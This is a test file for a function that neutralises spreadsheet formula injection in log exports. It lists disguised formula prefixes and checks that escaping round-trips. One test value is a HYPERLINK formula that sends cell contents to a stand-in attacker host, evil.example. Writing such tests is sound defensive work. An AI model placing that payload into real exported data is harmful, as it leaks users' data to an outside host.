import { describe, expect, it } from 'vitest';
import { neutraliseFormula } from '../log/export-table';
import { neutraliseFormulaCell, unneutraliseFormula } from './formula';

// Security review finding 13: prefixes spreadsheets skip before a formula.
const FORMULA_LIKE = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1+1',
  ' =1+1',
  '   @SUM(1+1)',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  '\ufeff=1+1',
  '\u3000=1+1',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(A1)',
  ' \u00a0\u200b\uff1dHYPERLINK("https://evil.example?"&A1)',
];

describe('neutraliseFormula (log exports)', () => {
  it.each(FORMULA_LIKE)('escapes %j', (text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it.each(['hello', 'a=b', '"=1+1"', '|calc', ';=1+1', '', 'Ünal'])('leaves %j alone', (text) => {
    expect(neutraliseFormula(text)).toBe(text);
  });
});

describe('unneutraliseFormula undoes neutraliseFormulaCell exactly', () => {
  it.each([...FORMULA_LIKE, 'plain', "'", "'=x", "''=x", "'plain", "'\u00a0=x", ''])(
    '%j',
    (text) => {
      expect(unneutraliseFormula(neutraliseFormulaCell(text))).toBe(text);
    },
  );
});
